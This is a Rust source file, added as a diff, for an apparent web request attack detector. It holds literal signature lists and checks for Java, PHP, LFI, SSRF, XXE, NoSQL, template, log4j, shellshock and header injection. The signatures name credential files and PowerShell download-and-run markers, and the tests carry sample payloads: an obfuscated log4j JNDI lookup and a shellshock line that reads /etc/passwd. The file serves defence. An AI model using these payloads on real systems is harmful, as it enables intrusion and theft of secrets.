@@ -1,0 +1,517 @@
+//! Literal signals (one Aho-Corasick automaton built once per profile compile) and
+//! small structural checks that are not worth a tokeniser: PHP function calls and
+//! serialized objects, log4j lookup resolution, NoSQL operators, XXE declarations,
+//! shellshock, CRLF / header injection, template injection and prototype pollution.
+//! All matching runs over the canonical (lowercase, decoded) view. Literals are
+//! class markers (package prefixes, wrapper schemes, dangerous function names,
+//! sensitive file names), never copies of known payloads.
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+
+use crate::detect::{Field, Hits};
+use crate::verdict::Class;
+
+/// (literal, class, id, weight, needs a non-word byte before it)
+type Lit = (&'static str, Class, &'static str, u32, bool);
+
+const LITERALS: &[Lit] = &[
+    // java: package prefixes of gadget / runtime classes, serialisation magic, OGNL, EL
+    ("java.lang.", Class::Java, "java-class", 6, true),
+    ("java.io.", Class::Java, "java-class", 6, true),
+    ("java.nio.", Class::Java, "java-class", 6, true),
+    ("java.net.", Class::Java, "java-class", 5, true),
+    ("java.beans.", Class::Java, "java-class", 6, true),
+    ("java.rmi", Class::Java, "java-class", 6, true),
+    ("java.util.", Class::Java, "java-class", 4, true),
+    ("java.security.", Class::Java, "java-class", 5, true),
+    ("javax.", Class::Java, "java-class", 6, true),
+    ("org.apache.commons", Class::Java, "java-class", 6, true),
+    ("org.apache.xalan", Class::Java, "java-class", 6, true),
+    ("org.apache.xbean", Class::Java, "java-class", 6, true),
+    ("org.apache.tomcat", Class::Java, "java-class", 5, true),
+    ("org.springframework.", Class::Java, "java-class", 5, true),
+    ("org.codehaus.groovy", Class::Java, "java-class", 6, true),
+    ("org.hibernate.", Class::Java, "java-class", 5, true),
+    ("org.mozilla.javascript", Class::Java, "java-class", 6, true),
+    ("com.sun.", Class::Java, "java-class", 6, true),
+    ("sun.misc.", Class::Java, "java-class", 6, true),
+    ("sun.reflect.", Class::Java, "java-class", 6, true),
+    ("com.mchange.", Class::Java, "java-class", 6, true),
+    ("com.alibaba.fastjson", Class::Java, "java-class", 6, true),
+    ("groovy.lang.", Class::Java, "java-class", 6, true),
+    ("clojure.", Class::Java, "java-class", 5, true),
+    ("bsh.interpreter", Class::Java, "java-class", 6, true),
+    ("ro0ab", Class::Java, "java-deserialisation", 7, true),
+    ("aced0005", Class::Java, "java-deserialisation", 7, true),
+    ("getruntime", Class::Java, "java-runtime", 7, false),
+    ("processbuilder", Class::Java, "java-runtime", 6, false),
+    ("classloader", Class::Java, "java-runtime", 5, false),
+    ("class.module", Class::Java, "java-runtime", 6, false),
+    ("forname(", Class::Java, "java-runtime", 5, false),
+    ("newinstance(", Class::Java, "java-runtime", 5, false),
+    ("getmethod(", Class::Java, "java-runtime", 5, false),
+    ("getdeclared", Class::Java, "java-runtime", 5, false),
+    ("#_memberaccess", Class::Java, "java-ognl", 8, false),
+    ("@ognl", Class::Java, "java-ognl", 8, false),
+    ("ognlcontext", Class::Java, "java-ognl", 7, false),
+    ("#context[", Class::Java, "java-ognl", 6, false),
+    ("xwork.", Class::Java, "java-ognl", 6, true),
+    ("jndi:", Class::Java, "java-jndi", 8, false),
+    ("xmldecoder", Class::Java, "java-class", 6, false),
+    ("${jvmrunargs", Class::Java, "java-jndi", 6, false),
+    // php
+    ("<?php", Class::Php, "php-open-tag", 8, false),
+    ("<?=", Class::Php, "php-open-tag", 6, false),
+    ("[php]", Class::Php, "php-open-tag", 6, false),
+    ("{php}", Class::Php, "php-open-tag", 6, false),
+    ("php://", Class::Php, "php-wrapper", 7, false),
+    ("phar://", Class::Php, "php-wrapper", 7, false),
+    ("zip://", Class::Php, "php-wrapper", 5, false),
+    ("data://", Class::Php, "php-wrapper", 5, false),
+    ("expect://", Class::Php, "php-wrapper", 7, false),
+    ("glob://", Class::Php, "php-wrapper", 5, false),
+    ("compress.zlib://", Class::Php, "php-wrapper", 6, false),
+    ("$_get", Class::Php, "php-superglobal", 6, false),
+    ("$_post", Class::Php, "php-superglobal", 6, false),
+    ("$_request", Class::Php, "php-superglobal", 6, false),
+    ("$_cookie", Class::Php, "php-superglobal", 6, false),
+    ("$_server", Class::Php, "php-superglobal", 6, false),
+    ("$_files", Class::Php, "php-superglobal", 6, false),
+    ("$_env", Class::Php, "php-superglobal", 6, false),
+    ("$_session", Class::Php, "php-superglobal", 5, false),
+    ("$globals", Class::Php, "php-superglobal", 6, false),
+    ("allow_url_include", Class::Php, "php-config", 7, false),
+    ("auto_prepend_file", Class::Php, "php-config", 7, false),
+    ("auto_append_file", Class::Php, "php-config", 7, false),
+    ("disable_functions", Class::Php, "php-config", 6, false),
+    ("open_basedir", Class::Php, "php-config", 6, false),
+    ("php_uname", Class::Php, "php-function", 6, false),
+    ("phpinfo", Class::Php, "php-function", 6, false),
+    // lfi: sensitive files and directories
+    ("etc/passwd", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("etc/shadow", Class::Lfi, "lfi-sensitive-file", 7, false),
+    ("etc/group", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("etc/hosts", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("etc/issue", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("etc/master.passwd", Class::Lfi, "lfi-sensitive-file", 7, false),
+    ("etc/security/", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("etc/httpd/", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("etc/apache2/", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("etc/nginx/", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("etc/mysql/", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("etc/ssh/", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("proc/self/", Class::Lfi, "lfi-sensitive-file", 7, false),
+    ("proc/version", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("/proc/", Class::Lfi, "lfi-sensitive-file", 3, false),
+    ("var/log/", Class::Lfi, "lfi-sensitive-file", 4, false),
+    ("win.ini", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("boot.ini", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("system.ini", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("windows/system32", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("windows\\system32", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("system32\\", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("inetpub", Class::Lfi, "lfi-sensitive-file", 4, false),
+    (".htaccess", Class::Lfi, "lfi-sensitive-file", 5, false),
+    (".htpasswd", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("web.config", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("wp-config", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("id_rsa", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("id_dsa", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("authorized_keys", Class::Lfi, "lfi-sensitive-file", 6, false),
+    (".bash_history", Class::Lfi, "lfi-sensitive-file", 6, false),
+    (".ssh/", Class::Lfi, "lfi-sensitive-file", 5, false),
+    (".git/", Class::Lfi, "lfi-sensitive-file", 5, false),
+    (".svn/", Class::Lfi, "lfi-sensitive-file", 5, false),
+    (".aws/", Class::Lfi, "lfi-sensitive-file", 6, false),
+    ("/.env", Class::Lfi, "lfi-sensitive-file", 5, false),
+    ("/root/", Class::Lfi, "lfi-sensitive-file", 3, false),
+    ("c:\\", Class::Lfi, "lfi-windows-path", 2, true),
+    ("c:/windows", Class::Lfi, "lfi-windows-path", 5, true),
+    // ssrf: metadata endpoints
+    ("169.254.169.254", Class::Ssrf, "ssrf-metadata", 7, false),
+    ("metadata.google.internal", Class::Ssrf, "ssrf-metadata", 7, false),
+    ("100.100.100.200", Class::Ssrf, "ssrf-metadata", 7, false),
+    ("fd00:ec2::254", Class::Ssrf, "ssrf-metadata", 7, false),
+    ("/latest/meta-data", Class::Ssrf, "ssrf-metadata", 6, false),
+    ("/latest/user-data", Class::Ssrf, "ssrf-metadata", 6, false),
+    ("/computemetadata/", Class::Ssrf, "ssrf-metadata", 7, false),
+    ("/metadata/instance", Class::Ssrf, "ssrf-metadata", 5, false),
+    ("/metadata/v1", Class::Ssrf, "ssrf-metadata", 5, false),
+    ("kubernetes.default", Class::Ssrf, "ssrf-internal-host", 6, false),
+    ("host.docker.internal", Class::Ssrf, "ssrf-internal-host", 6, false),
+    // xxe
+    ("<!entity", Class::Xxe, "xxe-entity", 6, false),
+    ("xi:include", Class::Xxe, "xxe-xinclude", 6, false),
+    ("xmlns:xi=", Class::Xxe, "xxe-xinclude", 5, false),
+    // nosqli
+    ("[$ne]", Class::Nosqli, "nosqli-operator", 7, false),
+    ("[$gt]", Class::Nosqli, "nosqli-operator", 7, false),
+    ("[$gte]", Class::Nosqli, "nosqli-operator", 7, false),
+    ("[$lt]", Class::Nosqli, "nosqli-operator", 7, false),
+    ("[$lte]", Class::Nosqli, "nosqli-operator", 7, false),
+    ("[$regex]", Class::Nosqli, "nosqli-operator", 7, false),
+    ("[$where]", Class::Nosqli, "nosqli-operator", 7, false),
+    ("[$exists]", Class::Nosqli, "nosqli-operator", 7, false),
+    ("[$nin]", Class::Nosqli, "nosqli-operator", 7, false),
+    ("[$in]", Class::Nosqli, "nosqli-operator", 6, false),
+    ("[$or]", Class::Nosqli, "nosqli-operator", 6, false),
+    ("[$eq]", Class::Nosqli, "nosqli-operator", 5, false),
+    ("{\"$ne\"", Class::Nosqli, "nosqli-operator", 7, false),
+    ("{\"$gt\"", Class::Nosqli, "nosqli-operator", 7, false),
+    ("{\"$where\"", Class::Nosqli, "nosqli-operator", 7, false),
+    ("{\"$regex\"", Class::Nosqli, "nosqli-operator", 7, false),
+    ("$where:", Class::Nosqli, "nosqli-operator", 6, false),
+    ("db.getcollection", Class::Nosqli, "nosqli-js", 6, false),
+    ("this.password", Class::Nosqli, "nosqli-js", 5, false),
+    // generic: prototype pollution, template injection, server-side JS / python / ruby
+    ("__proto__", Class::Generic, "generic-prototype-pollution", 7, false),
+    ("constructor.prototype", Class::Generic, "generic-prototype-pollution", 7, false),
+    ("constructor[prototype]", Class::Generic, "generic-prototype-pollution", 7, false),
+    ("[constructor]", Class::Generic, "generic-prototype-pollution", 5, false),
+    ("__class__", Class::Generic, "generic-template", 7, false),
+    ("__globals__", Class::Generic, "generic-template", 7, false),
+    ("__builtins__", Class::Generic, "generic-template", 7, false),
+    ("__subclasses__", Class::Generic, "generic-template", 8, false),
+    ("__import__", Class::Generic, "generic-template", 7, false),
+    ("__mro__", Class::Generic, "generic-template", 7, false),
+    ("|attr(", Class::Generic, "generic-template", 6, false),
+    ("child_process", Class::Generic, "generic-node", 8, false),
+    ("process.mainmodule", Class::Generic, "generic-node", 8, false),
+    ("global.process", Class::Generic, "generic-node", 7, false),
+    ("process.binding", Class::Generic, "generic-node", 7, false),
+    ("process.env", Class::Generic, "generic-node", 5, false),
+    ("module.exports", Class::Generic, "generic-node", 5, false),
+    ("require(", Class::Generic, "generic-node", 4, true),
+    ("execsync", Class::Generic, "generic-node", 6, false),
+    ("spawnsync", Class::Generic, "generic-node", 6, false),
+    ("os.system", Class::Generic, "generic-python", 7, false),
+    ("os.popen", Class::Generic, "generic-python", 7, false),
+    ("subprocess.", Class::Generic, "generic-python", 6, false),
+    ("@{[", Class::Generic, "generic-perl", 6, false),
+    ("instance_eval", Class::Generic, "generic-ruby", 6, false),
+    ("class_eval", Class::Generic, "generic-ruby", 6, false),
+    ("kernel.exec", Class::Generic, "generic-ruby", 6, false),
+    // cmdi: windows / powershell download-and-run
+    ("downloadstring", Class::Cmdi, "cmdi-powershell", 7, false),
+    ("downloadfile", Class::Cmdi, "cmdi-powershell", 6, false),
+    ("invoke-expression", Class::Cmdi, "cmdi-powershell", 7, false),
+    ("invoke-webrequest", Class::Cmdi, "cmdi-powershell", 6, false),
+    ("net.webclient", Class::Cmdi, "cmdi-powershell", 7, false),
+    ("-encodedcommand", Class::Cmdi, "cmdi-powershell", 7, false),
+    ("start-process", Class::Cmdi, "cmdi-powershell", 6, false),
+    ("xp_cmdshell", Class::Sqli, "sqli-procedure", 8, false),
+    ("information_schema", Class::Sqli, "sqli-schema", 6, false),
+    ("sysobjects", Class::Sqli, "sqli-schema", 6, false),
+    ("syscolumns", Class::Sqli, "sqli-schema", 6, false),
+    ("sqlite_master", Class::Sqli, "sqli-schema", 6, false),
+    ("pg_catalog", Class::Sqli, "sqli-schema", 6, false),
+    ("mysql.user", Class::Sqli, "sqli-schema", 6, false),
+    ("sp_executesql", Class::Sqli, "sqli-procedure", 7, false),
+    ("sp_oacreate", Class::Sqli, "sqli-procedure", 7, false),
+    ("xp_dirtree", Class::Sqli, "sqli-procedure", 7, false),
+    ("xp_regread", Class::Sqli, "sqli-procedure", 7, false),
+    ("utl_http", Class::Sqli, "sqli-procedure", 6, false),
+    ("dbms_", Class::Sqli, "sqli-procedure", 5, true),
+    ("waitfor delay", Class::Sqli, "sqli-function", 7, false),
+    ("waitfor time", Class::Sqli, "sqli-function", 7, false),
+];
+
+/// PHP functions that execute code or commands, read/write files, or decode
+/// payloads; scored when called (`name` followed by `(` after optional spaces).
+const PHP_FUNCS: &[(&str, u32)] = &[
+    ("shell_exec", 7), ("passthru", 7), ("proc_open", 7), ("pcntl_exec", 7), ("popen", 5), ("system", 5),
+    ("exec", 4), ("eval", 5), ("assert", 5), ("create_function", 7), ("call_user_func", 6),
+    ("call_user_func_array", 6), ("preg_replace", 4), ("base64_decode", 5), ("str_rot13", 5),
+    ("gzinflate", 6), ("gzuncompress", 6), ("gzdecode", 5), ("file_get_contents", 5), ("file_put_contents", 6),
+    ("fopen", 4), ("fwrite", 4), ("fputs", 4), ("readfile", 4), ("unlink", 4), ("move_uploaded_file", 6),
+    ("fsockopen", 6), ("highlight_file", 6), ("show_source", 6), ("ini_set", 5), ("ini_get", 4),
+    ("include", 4), ("require", 4), ("include_once", 5), ("require_once", 5), ("array_map", 4),
+    ("usort", 4), ("array_filter", 4), ("var_dump", 4), ("print_r", 4), ("printf", 3), ("echo", 2),
+    ("print", 3), ("chr", 3), ("hex2bin", 5), ("convert_uudecode", 6), ("get_defined_vars", 6),
+    ("getenv", 4), ("putenv", 5), ("posix_getpwuid", 6), ("mail", 3), ("escapeshellarg", 4),
+    ("escapeshellcmd", 4), ("phpinfo", 6), ("scandir", 5), ("glob", 4), ("opendir", 5), ("readdir", 5),
+    ("file", 3), ("curl_exec", 5), ("unserialize", 5), ("serialize", 3), ("extract", 4), ("parse_str", 4),
+    ("proc_nice", 5), ("symlink", 5), ("chmod", 4), ("mkdir", 3), ("rmdir", 4), ("copy", 3),
+];
+
+/// The compiled literal automaton. Immutable, shared by all requests.
+pub(crate) struct Rules {
+    ac: AhoCorasick,
+}
+
+#[derive(Debug, thiserror::Error)]
+/// The literal automaton could not be built.
+#[error("building the literal automaton: {0}")]
+pub struct RulesError(#[from] aho_corasick::BuildError);
+
+impl Rules {
+    pub(crate) fn build() -> Result<Rules, RulesError> {
+        let ac = AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::Standard)
+            .build(LITERALS.iter().map(|l| l.0))?;
+        Ok(Rules { ac })
+    }
+
+    /// Scores the canonical view `s`.
+    pub(crate) fn scan(&self, s: &[u8], field: Field, hits: &mut Hits) {
+        let mut seen: u128 = 0;
+        let mut best = [0u32; crate::verdict::SCORED_CLASSES];
+        let mut ids = [""; crate::verdict::SCORED_CLASSES];
+        for m in self.ac.find_overlapping_iter(s) {
+            let (_, class, id, w, boundary) = LITERALS[m.pattern().as_usize()];
+            if boundary && m.start() > 0 && (s[m.start() - 1].is_ascii_alphanumeric() || s[m.start() - 1] == b'_') {
+                continue;
+            }
+            let bit = 1u128 << (m.pattern().as_usize() % 128);
+            if seen & bit != 0 {
+                continue;
+            }
+            seen |= bit;
+            let Some(ci) = class.score_index() else { continue };
+            // several distinct literals of one class add up, capped at +2 beyond the best
+            if w > best[ci] {
+                best[ci] = w;
+                ids[ci] = id;
+            }
+        }
+        for c in crate::verdict::Class::ALL {
+            if let Some(ci) = c.score_index() {
+                if best[ci] > 0 {
+                    hits.add(*c, ids[ci], best[ci]);
+                }
+            }
+        }
+        php_calls(s, hits);
+        php_serialized(s, hits);
+        log4j(s, hits);
+        nosql_name(s, field, hits);
+        xxe(s, hits);
+        shellshock(s, hits);
+        if !matches!(field, Field::Body) {
+            crlf(s, hits);
+        }
+        template(s, hits);
+    }
+}
+
+fn word_before(s: &[u8], end: usize) -> &[u8] {
+    let mut st = end;
+    while st > 0 && (s[st - 1].is_ascii_alphanumeric() || s[st - 1] == b'_') {
+        st -= 1;
+    }
+    &s[st..end]
+}
+
+/// `name (` where name is a PHP function; also `$var(` variable functions.
+fn php_calls(s: &[u8], hits: &mut Hits) {
+    let mut best = 0;
+    let mut count = 0;
+    for (i, _) in s.iter().enumerate().filter(|(_, b)| **b == b'(') {
+        let mut e = i;
+        while e > 0 && s[e - 1] == b' ' {
+            e -= 1;
+        }
+        let w = word_before(s, e);
+        if w.is_empty() {
+            continue;
+        }
+        let st = e - w.len();
+        // method calls (`obj.exec(`, `$db->query(`) are not PHP builtins
+        if st > 0 && (s[st - 1] == b'.' || s[st - 1] == b'>' || s[st - 1] == b':') {
+            continue;
+        }
+        if st > 0 && s[st - 1] == b'$' {
+            best = best.max(4);
+            count += 1;
+            continue;
+        }
+        if let Some((_, wt)) = PHP_FUNCS.iter().find(|(n, _)| n.as_bytes() == w) {
+            best = best.max(*wt);
+            count += 1;
+        }
+    }
+    if best > 0 {
+        hits.add(Class::Php, "php-function", best + if count > 1 { 1 } else { 0 });
+    }
+}
+
+/// PHP serialized object `o:<len>:"<class>":<n>:{`.
+fn php_serialized(s: &[u8], hits: &mut Hits) {
+    let mut i = 0;
+    while let Some(p) = memchr::memchr(b':', &s[i..]) {
+        let at = i + p;
+        i = at + 1;
+        if at == 0 || !matches!(s[at - 1], b'o' | b'c' | b'a') {
+            continue;
+        }
+        if at >= 2 && s[at - 2].is_ascii_alphanumeric() {
+            continue;
+        }
+        let rest = &s[at + 1..];
+        let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
+        if digits == 0 || rest.get(digits) != Some(&b':') {
+            continue;
+        }
+        let r2 = &rest[digits + 1..];
+        if s[at - 1] == b'a' {
+            if r2.first() == Some(&b'{') && (memchr::memmem::find(r2, b"s:").is_some() || memchr::memmem::find(r2, b"i:").is_some()) {
+                hits.add(Class::Php, "php-serialized", 5);
+            }
+        } else if r2.first() == Some(&b'"') {
+            hits.add(Class::Php, "php-object-injection", 7);
+            return;
+        }
+    }
+}
+
+/// Resolves log4j lookups (`${lower:j}`, `${::-n}`, `${env:X:-d}`) innermost first and
+/// looks for a `jndi:` lookup in the result.
+fn log4j(s: &[u8], hits: &mut Hits) {
+    if memchr::memmem::find(s, b"${").is_none() {
+        return;
+    }
+    let mut cur = s.to_vec();
+    let mut lookups = 0;
+    for _ in 0..32 {
+        let Some(close) = find_innermost(&cur) else { break };
+        let (open, close) = close;
+        let inner = cur[open + 2..close].to_vec();
+        lookups += 1;
+        let replacement: Vec<u8> = if let Some(p) = memchr::memmem::find(&inner, b":-") {
+            inner[p + 2..].to_vec()
+        } else if let Some(r) = inner.strip_prefix(b"lower:").or_else(|| inner.strip_prefix(b"upper:")) {
+            r.to_vec()
+        } else if inner.starts_with(b"jndi:") {
+            hits.add(Class::Java, "java-jndi", 9);
+            return;
+        } else {
+            // unknown lookup: keep it visible but unresolvable
+            let mut v = b"$[".to_vec();
+            v.extend_from_slice(&inner);
+            v.push(b']');
+            v
+        };
+        cur.splice(open..=close, replacement);
+    }
+    if lookups > 0 && memchr::memmem::find(&cur, b"jndi:").is_some() {
+        hits.add(Class::Java, "java-jndi", 9);
+    } else if lookups >= 2 {
+        hits.add(Class::Java, "java-lookup", 5);
+    } else if lookups == 1 && [b"${env:".as_slice(), b"${sys:", b"${java:", b"${ctx:", b"${main:", b"${base64:", b"${date:", b"${web:", b"${docker:", b"${k8s:", b"${spring:", b"${bundle:", b"${log4j:", b"${lower:", b"${upper:", b"${::-"].iter().any(|p| memchr::memmem::find(s, p).is_some()) {
+        hits.add(Class::Java, "java-lookup", 5);
+    }
+}
+
+fn find_innermost(s: &[u8]) -> Option<(usize, usize)> {
+    let close = memchr::memchr(b'}', s)?;
+    let open = memchr::memmem::rfind(&s[..close], b"${")?;
+    Some((open, close))
+}
+
+/// A JSON key or parameter name that is a MongoDB operator.
+fn nosql_name(s: &[u8], field: Field, hits: &mut Hits) {
+    if field != Field::Name || s.first() != Some(&b'$') {
+        return;
+    }
+    const OPS: &[&str] = &[
+        "$ne", "$gt", "$gte", "$lt", "$lte", "$regex", "$where", "$exists", "$nin", "$in", "$or", "$and", "$not",
+        "$nor", "$expr", "$elemmatch", "$function", "$accumulator", "$eq", "$size", "$type", "$all", "$mod",
+    ];
+    if OPS.iter().any(|o| o.as_bytes() == s) {
+        hits.add(Class::Nosqli, "nosqli-operator", 7);
+    }
+}
+
+fn xxe(s: &[u8], hits: &mut Hits) {
+    if let Some(p) = memchr::memmem::find(s, b"<!doctype") {
+        let rest = &s[p..];
+        let has = |n: &[u8]| memchr::memmem::find(rest, n).is_some();
+        if has(b"<!entity") && (has(b" system") || has(b" public")) {
+            hits.add(Class::Xxe, "xxe-external-entity", 9);
+        } else if has(b"<!entity") || has(b" system ") {
+            hits.add(Class::Xxe, "xxe-entity", 6);
+        }
+    }
+}
+
+fn shellshock(s: &[u8], hits: &mut Hits) {
+    let t: &[u8] = {
+        let st = s.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(s.len());
+        &s[st..]
+    };
+    if t.starts_with(b"() {") || t.starts_with(b"(){") || memchr::memmem::find(s, b"() { :;").is_some() || memchr::memmem::find(s, b"(){:;").is_some() {
+        hits.add(Class::Shellshock, "shellshock", 9);
+    }
+}
+
+/// A newline followed by something shaped like a header or a request line.
+fn crlf(s: &[u8], hits: &mut Hits) {
+    let mut i = 0;
+    while let Some(p) = memchr::memchr(b'\n', &s[i..]) {
+        let at = i + p + 1;
+        i = at;
+        let rest = &s[at..];
+        let name_len = rest.iter().take(40).take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
+        if name_len >= 3 && rest.get(name_len) == Some(&b':') {
+            let name = &rest[..name_len];
+            const HDRS: &[&[u8]] = &[b"set-cookie", b"location", b"content-type", b"content-length", b"transfer-encoding", b"refresh", b"host", b"cookie", b"x-xss-protection", b"access-control-allow-origin", b"content-security-policy", b"link", b"authorization"];
+            let w = if HDRS.contains(&name) || name.starts_with(b"x-") { 7 } else { 3 };
+            hits.add(Class::Protocol, "protocol-header-injection", w);
+        }
+        if rest.starts_with(b"http/1.") || rest.starts_with(b"get /") || rest.starts_with(b"post /") {
+            hits.add(Class::Protocol, "protocol-smuggling", 7);
+        }
+    }
+}
+
+/// Template expressions with code inside: `{{7*7}}`, `${{...}}`, `<%= %>`, `#{...}`.
+fn template(s: &[u8], hits: &mut Hits) {
+    for (open, close, w) in [(b"{{".as_slice(), b"}}".as_slice(), 0u32), (b"<%", b"%>", 1), (b"${", b"}", 0), (b"#{", b"}", 0), (b"{%", b"%}", 1)] {
+        let Some(p) = memchr::memmem::find(s, open) else { continue };
+        let rest = &s[p + open.len()..];
+        let Some(e) = memchr::memmem::find(&rest[..rest.len().min(512)], close) else { continue };
+        let body = &rest[..e];
+        let arith = body.windows(3).any(|t| t[0].is_ascii_digit() && matches!(t[1], b'*' | b'+' | b'-' | b'/') && t[2].is_ascii_digit());
+        let code = body.contains(&b'(') || body.contains(&b'[') || memchr::memmem::find(body, b"self").is_some() || memchr::memmem::find(body, b"config").is_some() || memchr::memmem::find(body, b"request").is_some() || memchr::memmem::find(body, b"system").is_some() || memchr::memmem::find(body, b"exec").is_some() || memchr::memmem::find(body, b"import").is_some() || memchr::memmem::find(body, b"class").is_some();
+        if arith {
+            hits.add(Class::Generic, "generic-template", 5 + w);
+        } else if code {
+            hits.add(Class::Generic, "generic-template", 3 + w);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn scan(v: &str, f: Field) -> Hits {
+        let r = Rules::build().unwrap();
+        let mut h = Hits::default();
+        r.scan(v.as_bytes(), f, &mut h);
+        h
+    }
+
+    #[test]
+    fn rules_log4j_nested_lookups_resolve() {
+        let h = scan("${${lower:j}${::-n}di:ldap://x/a}", Field::Value);
+        assert!(h.score(Class::Java) >= 9);
+    }
+
+    #[test]
+    fn rules_php_object_injection_detected() {
+        let h = scan("o:8:\"stdclass\":1:{s:1:\"a\";i:2;}", Field::Value);
+        assert!(h.score(Class::Php) >= 5);
+    }
+
+    #[test]
+    fn rules_shellshock_detected() {
+        assert!(scan("() { :; }; /bin/cat /etc/passwd", Field::Header).score(Class::Shellshock) >= 9);
+    }
+
+    #[test]
+    fn rules_method_calls_are_not_php_builtins() {
+        assert!(scan("cursor.execute(\"x\")", Field::Value).score(Class::Php) < 5);
+    }
+}
